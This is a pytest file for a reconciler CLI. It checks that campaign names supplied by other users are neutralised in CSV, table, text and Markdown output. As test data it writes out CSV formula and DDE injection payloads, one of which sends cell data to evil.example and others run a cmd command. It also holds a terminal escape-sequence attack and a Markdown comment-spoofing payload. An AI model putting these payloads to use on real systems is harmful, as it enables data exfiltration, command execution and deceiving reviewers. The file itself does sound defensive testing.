"""Names other users set on live objects are harmless in every output (issue 16.5).

Aspects covered:
- ``report --format csv`` against the sandbox: campaign names that a spreadsheet would run
  (``=HYPERLINK(...)``, ``+``, ``-``, ``@``, tab, CR first) start with ``'``; numbers stay numbers;
  ``raw`` keeps the API's text; ``--raw`` with another format is refused;
- ``report --format table``: an escape sequence in a name is shown as ``\\x1b``, never sent;
- the Markdown plan (rendered with a CommonMark parser, as a pull-request comment is): a console
  step, a live status, a reason and a warning that try to close ``</details>``, add a heading, a
  link or an image, or mention someone, stay text in their own section;
- the text plan and the console's error line show control characters as escapes.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from reconciler.cli.console import Console
from reconciler.cli.main import cli
from reconciler.errors import InputError
from reconciler.plan.model import Action, Change, Plan
from reconciler.plan.render import render_markdown, render_text
from reconciler.report import ReportQuery, run_report
from tests.reporting.test_report import client
from tests.sandbox.mediamath_reporting.fixtures import _CAMPAIGN, Reporting, control

NAMES = {
    1: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    2: "+1+cmd|' /C calc'!A0",
    3: "-2+3",
    4: "@SUM(1+1)*cmd|' /C calc'!A0",
}
TERMINAL_ATTACK = "Summer\x1b]0;pwned\x07\x1b[2J\x1b[8mhidden"


def rename(rep: Reporting, campaign_id: int, name: str) -> None:
    """A campaign of the seed's other organisation named by someone else (seeded as it is)."""
    campaign = {**_CAMPAIGN, "id": 100 + campaign_id, "name": name, "advertiser_id": 150001,
                "start_date": "2026-03-01T00:00:00", "end_date": "2026-03-31T23:59:59", "total_budget": "100.00"}
    control(rep.url, "/_sandbox/seed", {"api": "mediamath", "name": "entities", "data": {"campaigns": [campaign]}})


def report(rep: Reporting, fmt: str, **kwargs: Any) -> str:
    out = io.StringIO()
    query = ReportQuery(campaign_ids=[str(100 + i) for i in NAMES], fields=["campaign_id", "campaign_name", "impressions"],
                        order=["campaign_id"])
    run_report(client(rep), query, fmt=fmt, out=out, **kwargs)
    return out.getvalue()


def test_csv_cells_never_run_as_formulas(rep: Reporting) -> None:
    for campaign_id, name in NAMES.items():
        rename(rep, campaign_id, name)
    rows = list(csv.reader(io.StringIO(report(rep, "csv"))))
    by_id = {row[0]: row for row in rows[1:]}
    assert {int(k) - 100: v[1] for k, v in by_id.items()} == {i: "'" + n for i, n in NAMES.items()}
    assert all(row[2].isdigit() for row in rows[1:])  # metrics are numbers, untouched
    raw = list(csv.reader(io.StringIO(report(rep, "csv", raw=True))))
    assert {int(row[0]) - 100: row[1] for row in raw[1:]} == NAMES


def test_raw_is_for_csv_only(rep: Reporting) -> None:
    with pytest.raises(InputError, match="--raw applies to --format csv only"):
        report(rep, "table", raw=True)
    assert "--raw" in CliRunner().invoke(cli, ["report", "--help"]).output


def test_a_table_never_sends_escape_sequences(rep: Reporting) -> None:
    rename(rep, 1, TERMINAL_ATTACK)
    rename(rep, 2, "two\nlines\ttabbed")
    text = report(rep, "table")
    assert "\x1b" not in text and "\x07" not in text
    assert "Summer\\x1b]0;pwned\\x07\\x1b[2J\\x1b[8mhidden" in text
    assert "two\\x0alines\\x09tabbed" in text
    assert len(text.splitlines()) == 2 + 2  # header, rule, one line per campaign


HOSTILE = "done.\n</details>\n\n# Approved by security\n\n@alice please merge [here](http://evil.example) ![x](http://evil.example/x.png)"


def hostile_plan() -> Plan:
    manual = Change(
        "mediarithmics.CleanRoom/room", "mediarithmics", "CleanRoom", Action.MANUAL, remote_id="22",
        before={"name": "a"}, after={"name": "b"}, status=HOSTILE, reason=HOSTILE, manual_steps=(HOSTILE,),
    )
    update = Change("mediamath.Campaign/c", "mediamath", "Campaign", Action.UPDATE, remote_id="7",
                    before={"name": "x"}, after={"name": "y"})
    return Plan("lin", 1, (manual, update), warnings=(HOSTILE,))


def test_markdown_plan_text_cannot_escape_its_section() -> None:
    markdown = render_markdown(hostile_plan())
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    assert "<h1" not in rendered and "<h2" not in rendered  # only our own "### reconciler plan" heading
    assert rendered.count("<h3>") == 1
    assert rendered.count("<details>") == rendered.count("</details>") == 2
    assert "<a " not in rendered and "<img" not in rendered
    assert "@alice" not in rendered and "@&#8203;alice" in rendered
    sections = rendered.split("</details>")
    assert "please merge" in sections[0] and "please merge" not in sections[1]  # stayed in its own section


def test_text_plan_and_errors_show_control_characters_as_escapes() -> None:
    plan = hostile_plan()
    manual = plan.changes[0]._replace(manual_steps=(TERMINAL_ATTACK,), status=TERMINAL_ATTACK)
    text = render_text(Plan("lin", 1, (manual,), warnings=(TERMINAL_ATTACK,)), color=False)
    assert "\x1b" not in text and "\x07" not in text and "Summer\\x1b]0;pwned" in text
    runner = CliRunner()
    with runner.isolation() as (_, err, *_rest):
        Console(color=False, interactive=False).error(f"the vendor said: {TERMINAL_ATTACK}")
        written = err.getvalue().decode()
    assert written == "Error: the vendor said: Summer\\x1b]0;pwned\\x07\\x1b[2J\\x1b[8mhidden\n"
